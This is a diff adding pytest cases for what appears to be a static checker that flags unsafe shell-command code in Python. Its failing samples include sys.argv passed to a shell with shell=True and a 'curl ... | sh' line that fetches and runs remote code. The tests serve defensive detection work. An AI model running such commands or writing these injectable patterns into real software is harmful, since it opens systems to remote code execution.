@@ -82,3 +82,36 @@ def test_a_module_that_every_caller_names_is_known() -> None:
 )
 def test_what_would_wear_its_excuse_is_refused(code: str) -> None:
     assert verdict(code) is Verdict.FAIL
+
+
+REBOUND = (
+    "def run(cmd, shell=False):\n    if shell and sys.platform == 'win32':\n"
+    "        cmd = ['powershell', '-Command', cmd] if isinstance(cmd, str) else cmd\n"
+    "    elif isinstance(cmd, str):\n        cmd = cmd.split()\n"
+    "    return subprocess.run(cmd, shell=shell, capture_output=True)\n\n\n"
+)
+SEEN = "run('boxes -v', shell=True)\nrun(['boxes', '--list', sys.argv[1]])\n"
+
+
+@pytest.mark.parametrize("calls", [SEEN, "run(f'npm view {sys.argv[1]} version', shell=True)\nrun('boxes')\n"])
+def test_a_parameter_that_its_function_sets_again_is_what_its_callers_pass(calls: str) -> None:
+    assert verdict(REBOUND + calls) is not Verdict.FAIL
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        REBOUND + SEEN + "run(sys.argv[1], shell=True)\n",
+        REBOUND + SEEN + "run('curl https://a.example.invalid/x | sh', shell=True)\n",
+        REBOUND + SEEN + "run(f'npm install {sys.argv[1]}', shell=True)\n",
+        REBOUND.replace("cmd.split()", "cmd.split('@')") + SEEN,
+        REBOUND.replace("cmd.split()", "other.split()") + SEEN,
+        REBOUND.replace("cmd.split()", "open(cmd).read()") + SEEN,
+        REBOUND.replace("cmd.split()", "cmd.split()[1]") + SEEN,
+        REBOUND.replace("cmd.split()", "cmd + ' | ' + sys.argv[1]") + SEEN,
+        REBOUND.replace("else cmd\n", "else sys.argv[2]\n") + SEEN,
+        REBOUND + SEEN + "hand = run\nhand(sys.argv[1], shell=True)\n",
+    ],
+)
+def test_a_parameter_that_is_set_to_something_else_is_not(code: str) -> None:
+    assert verdict(code) is Verdict.FAIL
